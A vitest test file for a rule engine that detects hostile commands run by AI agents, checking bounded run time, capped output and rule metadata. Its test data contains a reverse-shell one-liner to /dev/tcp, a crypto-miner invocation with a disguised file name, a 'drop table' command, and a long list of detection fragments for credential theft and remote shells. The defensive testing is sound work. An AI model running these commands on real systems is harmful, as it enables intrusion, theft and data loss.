// Command lines are written by attackers: each rule answers each of them, in bounded words, and none of them takes it forever.
import { limits, severities } from "@bailiff/crds";
import { expect, test } from "vitest";
import { anExecOf, withCommand } from "../testing/commands.ts";
import { findingsOn } from "../testing/engine.ts";
import { rules } from "./rules/index.ts";

/** Programs of which each makes some rule read the whole command line. */
const programs =
  "bash sh python3 node perl curl wget rclone kubectl helm pip npx npm git rm find dd psql redis-cli aws terraform ssh socat nc mount unshare nsenter docker chroot crontab systemctl gdb claude tee env busybox scp rsync tar grep vault iptables dig chmod sudo zip gzip openssl pg_dump w1".split(
    " ",
  );

/** Beginnings of what the rules look for, over and over: what makes a careless expression go back and forth. */
const worst = [
  ..." |a|/|-|;|=|'|\"|\n|\\".split("|"),
  ..."-r |-rf /etc/a/|curl |curl | |base64 -d |openssl enc -d|mkfifo |sh -i |telnet |socket dup2 STDIN |exec(|delete from a |drop |get secrets |install |git+|--data @|-F a=|password=|token |--token |eyJa.|://a:|-----BEGIN |~/.ssh/|../.env|$(curl |push --force |tee |.bash_history|-R 1:|-c import |/proc/1/root/|-name *.pem |label bailiff |mcp-|docker.sock|R:socks |EXEC:TCP:|/dev/tcp/a/1|-s |-i -l |exec -- |create token |--as=x |a@b:|open('w'|-perm |id;|https://".split(
    "|",
  ),
].filter((text) => text !== "");
const filled = (text: string, length = 4096): string => text.repeat(Math.ceil(length / text.length)).slice(0, length);

test.each(programs)("%s with any command line of 4 KiB gets an answer in bounded words", (program) => {
  const event = anExecOf("coding-agent");
  const lines = worst.flatMap((text) => [
    filled(text),
    `-c ${filled(text)}`,
    `${text}${filled(" ")}`,
    `${filled(text)}!`,
  ]);
  const found = findingsOn(
    lines.map((line) => withCommand(event, `/usr/bin/${program}`, line)),
    undefined,
    { isTrained: false },
  );
  for (const { rule, message, signature } of found) {
    expect(rules.map(({ name }) => name)).toContain(rule);
    expect(message.length).toBeLessThanOrEqual(limits.message);
    expect(signature.length).toBeLessThanOrEqual(limits.signature);
  }
});

test.each([
  ["/bin/bash", `-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" ${"x".repeat(1_200_000)}`, "reverse-shell"],
  ["/bin/bash", `-c "bash -i >&\u0000\u001b[2J\n/dev/tcp/203.0.113.66/4444 0>&1"`, "reverse-shell"],
  ["/tmp/\u202exmrig", `-o stratum+tcp://x ${"\u0007".repeat(3000)}`, "miner"],
  ["/usr/bin/psql", `-c "drop\ttable\tusers" ${"é".repeat(4000)}`, "destructive-command"],
])("a command line is judged by its beginning, however long and odd the rest is: %s", (binary, words, rule) => {
  const event = withCommand(anExecOf("support-bot"), binary, words);
  const [found] = findingsOn([event], rule, { isTrained: false });
  expect(found).toBeDefined();
  expect(`${found?.message}${found?.signature}${found?.evidence[0]?.arguments}`).not.toMatch(/[\p{Cc}\u202e]/u);
});

test("a command line of 1.2 MB says that it was cut", () => {
  const event = withCommand(anExecOf("support-bot"), "/tmp/x", "y".repeat(1_200_000));
  const [found] = findingsOn([event], "drop-and-exec", { isTrained: false });
  expect(found?.evidence[0]).toMatchObject({ truncated: true });
});

test("each rule says who it is, how bad, why, and what an innocent cause would be", () => {
  expect(new Set(rules.map(({ name }) => name)).size).toBe(rules.length);
  for (const { name, severity, references, benign } of rules) {
    expect(name).toMatch(/^[a-z]([-a-z0-9]*[a-z0-9])?$/);
    expect(severities).toContain(severity);
    expect(references.length).toBeGreaterThan(0);
    expect(references.length).toBeLessThanOrEqual(limits.references);
    for (const reference of references)
      expect(reference).toMatch(/^(?:ASI\d\d|T\d{4}(?:\.\d{3})?|AML\.T\d{4}(?:\.\d{3})?)$/);
    expect(benign).toMatch(/\.$/);
  }
});
